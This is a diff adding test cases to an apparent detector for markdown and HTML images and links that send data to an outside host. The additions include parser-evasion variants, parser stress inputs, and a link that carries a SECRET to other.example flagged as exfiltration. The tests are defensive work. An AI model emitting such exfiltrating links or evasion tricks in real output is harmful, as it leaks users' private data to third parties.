@@ -48,6 +48,39 @@ def test_an_address_with_escapes_is_read_as_pages_read_it() -> None:
 
 
 @pytest.mark.parametrize(
+    ("text", "address"),
+    [
+        (r"![x](https\://other.example/a?d=1)", r"https\://other.example/a?d=1"),
+        (r"![x](https\&#58;//other.example/a)", r"https\&#58;//other.example/a"),
+        (r"![x](https://docs.example.org\.other.example/a)", r"https://docs.example.org\.other.example/a"),
+        (r"![x\](https://docs.example.org/](https://other.example/a)", "https://other.example/a"),
+        ("![x](https://docs.example.org()@other.example/a)", "https://docs.example.org()@other.example/a"),
+        ("![x](https://docs.example.org/[a]:b) and !(https://other.example/a)", ""),
+        ("![x](https://docs.example.org<@other.example/a)", "https://docs.example.org<@other.example/a"),
+        ("![x](<https://docs.example.org @other.example/a>)", "https://docs.example.org @other.example/a"),
+        ("![x](" + " " * 900 + "//other.example/a)", "//other.example/a"),
+        ("> ![x](\n> //other.example/a)", "//other.example/a"),
+        ("![x](///other.example/a)", "///other.example/a"),
+        ("![a][x]\n\n[x]:\n  https://other.example/a", "https://other.example/a"),
+        ("![a][x]\n\n[x]:" + " " * 900 + "//other.example/a", "//other.example/a"),
+        ("<img src" + " " * 900 + "=" + " " * 900 + '"https://other.example/a">', "https://other.example/a"),
+        ("<img title=< src=https://other.example/a>", "https://other.example/a"),
+        ('<img srcset="data:,x 1x, //other.example/a 2x">', "data:,x 1x, //other.example/a 2x"),
+        ("<img srcset='a.png, b.png (a, b),//other.example/a'>", "a.png, b.png (a, b),//other.example/a"),
+        ("<img srcset=a.png&#32;1x,&#32;//other.example/a>", "a.png&#32;1x,&#32;//other.example/a"),
+    ],
+)
+def test_a_picture_is_found_where_markdown_and_browsers_read_one(text: str, address: str) -> None:
+    assert found(text) == [("image.host", address)] * bool(address)
+
+
+@pytest.mark.parametrize("user", ["[", "\u2100", "docs.example.org[", "a@["])
+def test_a_name_before_the_host_hides_nothing(user: str) -> None:
+    address = f"https://{user}@other.example/?d={SECRET}"
+    assert found(f"[x]({address})") == [("link.exfiltration", address)]
+
+
+@pytest.mark.parametrize(
     "text",
     [
         # What looks like code in a piece of a text need not be code in the whole.
@@ -69,6 +102,8 @@ def test_what_may_become_an_image_is_one(text: str) -> None:
         "![x](a.png) and ![y](/images/b.png) and ![z](data:image/png;base64,iVBORw0KGgo=)",
         "[a page](https://other.example/a?page=2&sort=name) and https://other.example/a_(b).",
         "see [1] and a[i](j), [x]: done, a < b",
+        r"![x](https://docs.example.org/a\_b_(c).png) and [y](a\(b)",
+        "<img srcset='a.png 1x, https://docs.example.org/b,c.png 2x'>",
         "https://other.example/item/550e8400-e29b-41d4-a716-446655440000?id=1A2b3C4d5E6f7G8h9I0jK1L2m3N4o5P6q7R8s9T0u1V2",
         "https://github.com/owner/name/commit/7622dec1e5f7d25dc60b57c28c39f4c4af197018",
         "mailto:a@other.example, [me](mailto:a@other.example)",
@@ -135,6 +170,13 @@ def test_a_text_that_is_too_long_to_be_parsed_is_read_all_the_same() -> None:
         "![x](https://a.example)" * 40_000,
         "<img " * 200_000,
         "<img src=" * 100_000,
+        "![x](" + " " * 1_000_000,
+        "](" * 40_000 + "()" * 10_000,
+        "](<" * 40_000,
+        "](\\" * 40_000,
+        "<img srcset='" + "a (" * 300_000,
+        "<img " + "a " * 500_000 + ">",
+        "<img a=" + " " * 16_000 + "'",
         "http://" * 140_000,
         "https://a.example/?" + "a=b&" * 250_000,
         "https://[::1/ ![x](https://[bad) http://[/",
